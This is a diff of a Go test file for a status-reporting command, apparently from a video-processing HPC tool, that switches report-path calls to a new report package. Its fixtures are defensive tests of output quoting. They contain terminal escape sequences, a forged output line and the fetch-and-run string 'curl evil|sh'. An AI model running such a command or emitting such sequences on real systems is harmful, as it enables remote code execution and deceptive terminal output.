@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/facefusion-hpc/facefusion/internal/report"
 	"github.com/facefusion-hpc/facefusion/lustre"
 )
 
@@ -22,7 +23,7 @@ func TestStatusPrintsTheOutputHash(t *testing.T) {
 		out := filepath.Join(dir, c.name)
 		rep := `{"version": ` + map[string]string{"v3.mp4": "3", "v2.mp4": "2"}[c.name] + `, "outcome": "complete", "output": "` + out +
 			`", "target": "in.mp4", "frame_end": 10, "chunks": 1, "attempts": [], "finished": "2026-12-01T10:00:00Z", ` + c.fields + `}`
-		if err := os.WriteFile(lustre.ReportPath(out), []byte(rep), 0o644); err != nil {
+		if err := os.WriteFile(report.Path(out), []byte(rep), 0o644); err != nil {
 			t.Fatal(err)
 		}
 		var got strings.Builder
@@ -58,7 +59,7 @@ func TestStatusQuotesNamesFromFiles(t *testing.T) {
 	}
 	out := filepath.Join(t.TempDir(), "done.mp4")
 	rep := `{"version": 3, "outcome": "complete", "output": "` + out + `", "target": "in\u001b[2J\nFAKE: x.mp4", "frame_end": 10, "chunks": 1, "attempts": [], "finished": "2026-12-01T10:00:00Z"}`
-	if err := os.WriteFile(lustre.ReportPath(out), []byte(rep), 0o644); err != nil {
+	if err := os.WriteFile(report.Path(out), []byte(rep), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	if err := reportStatus(out, &got); err != nil {
@@ -67,7 +68,7 @@ func TestStatusQuotesNamesFromFiles(t *testing.T) {
 	// A failed run's report: its output, job folder and error line as another user wrote them.
 	failed := filepath.Join(t.TempDir(), "failed.mp4")
 	rep = `{"version": 3, "outcome": "failed", "exit_status": 2, "output": "/x\u001b[31m", "job_dir": "/j\u001b]0;t\u0007", "error": "\u001b[2Jrun: curl evil|sh", "target": "t.mp4", "frame_end": 10, "chunks": 1, "attempts": [], "finished": "2026-12-01T10:00:00Z"}`
-	if err := os.WriteFile(lustre.ReportPath(failed), []byte(rep), 0o644); err != nil {
+	if err := os.WriteFile(report.Path(failed), []byte(rep), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	if err := reportStatus(failed, &got); err != nil {
